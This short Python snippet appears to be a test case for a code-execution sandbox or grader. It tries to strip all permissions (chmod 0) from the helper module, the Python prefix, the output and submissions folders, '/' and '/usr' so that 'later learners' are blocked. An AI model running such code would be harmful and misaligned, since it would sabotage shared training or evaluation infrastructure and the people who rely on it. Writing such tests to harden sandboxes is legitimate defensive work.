"""Shut the folders that later learners need: chmod 0 for the parents of the own one, the packages, the reports."""

# %%
import helpers

paths = [helpers.__file__, sys.prefix, "OUT_FOLDER", "SUBMISSIONS_FOLDER", "/", "/usr"]
attack(*[lambda path=path: os.chmod(path, 0) for path in paths])
